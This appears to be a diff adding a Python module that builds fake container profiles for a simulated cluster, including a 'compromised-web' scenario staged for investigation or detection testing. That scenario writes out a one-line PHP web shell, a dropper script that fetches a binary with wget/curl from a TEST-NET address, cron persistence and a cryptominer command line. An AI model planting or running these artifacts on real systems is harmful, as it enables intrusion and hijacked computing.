@@ -1,0 +1,241 @@
+"""Runtime profiles: what runs in a fake container, from its scenario's ``x-fake`` block.
+
+``resolve(fake, ctx)`` turns an ``x-fake`` dict into a ContainerSpec: the image kind, the main
+process, the files laid into the container's root before it starts, and a few special effects
+(a fake mining pool to connect to, a crafted /proc/net/tcp). Named profiles:
+
+- ``web``: busybox root; ``httpd`` on 0.0.0.0:8080 and a loop writing access-log lines to stdout.
+- ``compromised-web``: web, plus a miner-looking process (``/tmp/.x/kworkerds``, a static binary:
+  its comm and exe say so) holding an ESTABLISHED TCP connection to a fake pool at
+  198.51.100.7:3333 (TEST-NET-2; the pool lives in the runtime's own network namespace, so no
+  packet leaves the machine), a dropper script and the "downloaded" binary under /tmp/.x with
+  old mtimes, and a crontab entry for persistence.
+- ``batch``: busybox root; a worker loop.
+- ``distroless``: static root; ``/app 8080`` (no sh, ps, cat, tar).
+- ``hostile``: see ``profiles_hostile``.
+
+Generic form: ``rootfs: busybox|static``, ``script`` (run as ``sh -c script``), ``files``
+(``{"/path": "content"}``; a value may also be ``{"content": ..., "mode": 0o755 or "0755",
+"mtime": epoch seconds}``). Extensions: ``command`` (an argv list, instead of script), ``env``.
+A named profile can be combined with ``files``/``env`` (added) and ``script``/``command``
+(replacing its main process).
+"""
+
+from __future__ import annotations
+
+import time
+from dataclasses import dataclass, field
+
+from . import images
+
+POOL_ADDRESS = "198.51.100.7"
+POOL_PORT = 3333
+
+# file content that is a copy of a native tool rather than literal bytes
+COPY_FCAPP = "fcapp"
+
+
+@dataclass
+class FileSpec:
+    """One entry laid into a container's root before it starts (parents are created).
+    Exactly one of content, copy_of, symlink, directory, sparse_size says what it is."""
+    path: bytes                       # absolute path inside the container (any bytes but NUL)
+    content: bytes | None = None
+    copy_of: str | None = None        # COPY_FCAPP
+    symlink: bytes | None = None      # link target, verbatim
+    directory: bool = False
+    sparse_size: int | None = None    # a sparse file of that size (nothing written)
+    mode: int = 0o644
+    mtime: float | None = None        # seconds since the epoch; None: now
+
+
+@dataclass
+class ContainerSpec:
+    """Everything the runtime needs to start one container."""
+    rootfs: str                                   # images.BUSYBOX / STATIC / DEBUG
+    argv: list[str]                               # the main process
+    env: dict[str, str] = field(default_factory=dict)
+    files: list[FileSpec] = field(default_factory=list)
+    needs_pool: bool = False                      # the fake pool must be reachable
+    mask_net_tcp: bytes | None = None             # what /proc/net/tcp shows inside
+
+
+@dataclass
+class ProfileContext:
+    """What a profile may depend on."""
+    namespace: str
+    pod_name: str
+    container_name: str
+    host_network: bool
+
+
+def _ago(days: float) -> float:
+    return time.time() - days * 86400
+
+
+def _script_file(path: str, text: str, mtime: float | None = None) -> FileSpec:
+    return FileSpec(path.encode(), text.encode(), mode=0o755, mtime=mtime)
+
+
+_WEB_INDEX = "<html><body><h1>shop</h1></body></html>\n"
+
+_WEB_ENTRYPOINT = """\
+#!/bin/sh
+# web: an HTTP server and its access log on stdout
+httpd -f -p 0.0.0.0:8080 -h /var/www &
+echo "web: httpd listening on :8080"
+i=0
+while true; do
+  i=$((i+1))
+  echo "10.244.0.1 - - [$(date -u '+%d/%b/%Y:%H:%M:%S +0000')] \\"GET /healthz HTTP/1.1\\" 200 2 req=$i"
+  sleep 5
+done
+"""
+
+
+def _web(ctx: ProfileContext) -> ContainerSpec:
+    return ContainerSpec(
+        rootfs=images.BUSYBOX,
+        argv=["/bin/sh", "/docker-entrypoint.sh"],
+        files=[_script_file("/docker-entrypoint.sh", _WEB_ENTRYPOINT),
+               FileSpec(b"/var/www/index.html", _WEB_INDEX.encode())])
+
+
+_PAYLOAD = f"""\
+#!/bin/sh
+# dropped by a webshell: fetch the miner, hide it, persist, run it
+cd /tmp/.x || exit 1
+wget -q -O kworkerds http://{POOL_ADDRESS}/x86_64 || curl -fsSL -o kworkerds http://{POOL_ADDRESS}/x86_64
+chmod +x kworkerds
+(crontab -l 2>/dev/null; echo '*/5 * * * * sh /tmp/.x/payload.sh') | crontab -
+nohup ./kworkerds -o {POOL_ADDRESS}:{POOL_PORT} -u 4AfakeWalletAddressForTestsOnly -p x -k --donate-level 1 >/dev/null 2>&1 &
+"""
+
+_MINER_CONFIG = f"""\
+{{
+  "autosave": true,
+  "cpu": {{"enabled": true, "max-threads-hint": 100}},
+  "pools": [{{"url": "{POOL_ADDRESS}:{POOL_PORT}", "user": "4AfakeWalletAddressForTestsOnly",
+             "pass": "x", "keepalive": true}}]
+}}
+"""
+
+
+def _compromised_web(ctx: ProfileContext) -> ContainerSpec:
+    spec = _web(ctx)
+    dropped = _ago(3.2)
+    # Under hostNetwork the pool address would be routed by the host: never connect from there.
+    pool = [] if ctx.host_network else ["-o", f"{POOL_ADDRESS}:{POOL_PORT}"]
+    miner = ["/tmp/.x/kworkerds", *pool, "-u", "4AfakeWalletAddressForTestsOnly", "-p", "x",
+             "-k", "--donate-level", "1"]
+    entry = _WEB_ENTRYPOINT.replace(
+        'echo "web: httpd listening on :8080"\n',
+        'echo "web: httpd listening on :8080"\n'
+        f'{" ".join(miner)} &\n')
+    spec.files = [
+        _script_file("/docker-entrypoint.sh", entry),
+        FileSpec(b"/var/www/index.html", _WEB_INDEX.encode()),
+        FileSpec(b"/var/www/upload.php", b"<?php system($_GET['c']); ?>\n", mtime=_ago(3.3)),
+        FileSpec(b"/tmp/.x", directory=True, mode=0o755, mtime=dropped),
+        _script_file("/tmp/.x/payload.sh", _PAYLOAD, mtime=dropped),
+        FileSpec(b"/tmp/.x/kworkerds", copy_of=COPY_FCAPP, mode=0o755, mtime=dropped + 40),
+        FileSpec(b"/tmp/.x/config.json", _MINER_CONFIG.encode(), mtime=dropped + 41),
+        FileSpec(b"/var/spool/cron/crontabs/root", b"*/5 * * * * sh /tmp/.x/payload.sh\n",
+                 mode=0o600, mtime=dropped + 42),
+    ]
+    spec.needs_pool = not ctx.host_network
+    return spec
+
+
+_BATCH_ENTRYPOINT = """\
+#!/bin/sh
+# batch: a worker taking jobs from a queue
+n=0
+echo "worker: started, queue=jobs"
+while true; do
+  n=$((n+1))
+  echo "worker: job $n started"
+  sleep 2
+  echo "worker: job $n done"
+done
+"""
+
+
+def _batch(ctx: ProfileContext) -> ContainerSpec:
+    return ContainerSpec(rootfs=images.BUSYBOX, argv=["/bin/sh", "/worker.sh"],
+                         files=[_script_file("/worker.sh", _BATCH_ENTRYPOINT)])
+
+
+def _distroless(ctx: ProfileContext) -> ContainerSpec:
+    return ContainerSpec(rootfs=images.STATIC, argv=["/app", "8080"])
+
+
+def _hostile(ctx: ProfileContext) -> ContainerSpec:
+    from .profiles_hostile import hostile
+    return hostile(ctx)
+
+
+PROFILES = {
+    "web": _web,
+    "compromised-web": _compromised_web,
+    "batch": _batch,
+    "distroless": _distroless,
+    "hostile": _hostile,
+}
+
+
+def _parse_mode(value) -> int:
+    if isinstance(value, int):
+        return value
+    return int(str(value), 8)
+
+
+def _to_bytes(value) -> bytes:
+    if isinstance(value, bytes):
+        return value
+    return str(value).encode("utf-8", "surrogateescape")
+
+
+def _file_from_fake(path: str, value) -> FileSpec:
+    if not str(path).startswith("/"):
+        raise ValueError(f"x-fake files: path {path!r} is not absolute")
+    if isinstance(value, dict):
+        return FileSpec(_to_bytes(path), _to_bytes(value.get("content", "")),
+                        mode=_parse_mode(value.get("mode", 0o644)), mtime=value.get("mtime"))
+    return FileSpec(_to_bytes(path), _to_bytes(value if value is not None else ""))
+
+
+def resolve(fake: dict, ctx: ProfileContext) -> ContainerSpec:
+    """The ContainerSpec for an ``x-fake`` block. Raises ValueError if it makes no sense."""
+    if not isinstance(fake, dict):
+        raise ValueError("x-fake must be a mapping")
+    name = fake.get("profile")
+    if name is not None:
+        if name not in PROFILES:
+            raise ValueError(f"unknown x-fake profile {name!r} "
+                             f"(known: {', '.join(sorted(PROFILES))})")
+        spec = PROFILES[name](ctx)
+        if "rootfs" in fake and fake["rootfs"] != spec.rootfs:
+            raise ValueError(f"profile {name} uses rootfs {spec.rootfs}, not {fake['rootfs']}")
+    else:
+        rootfs = fake.get("rootfs", images.BUSYBOX)
+        if rootfs not in (images.BUSYBOX, images.STATIC):
+            raise ValueError(f"x-fake rootfs must be busybox or static, not {rootfs!r}")
+        default = ["/app", "8080"] if rootfs == images.STATIC else ["sleep", "2147483647"]
+        spec = ContainerSpec(rootfs=rootfs, argv=default)
+    if "script" in fake and "command" in fake:
+        raise ValueError("x-fake: give script or command, not both")
+    if "script" in fake:
+        if spec.rootfs == images.STATIC:
+            raise ValueError("x-fake: a static rootfs has no shell to run a script")
+        spec.argv = ["/bin/sh", "-c", str(fake["script"])]
+    if "command" in fake:
+        command = fake["command"]
+        if not isinstance(command, list) or not command:
+            raise ValueError("x-fake command must be a non-empty list")
+        spec.argv = [str(a) for a in command]
+    for path, value in (fake.get("files") or {}).items():
+        spec.files.append(_file_from_fake(path, value))
+    for key, value in (fake.get("env") or {}).items():
+        spec.env[str(key)] = str(value)
+    return spec
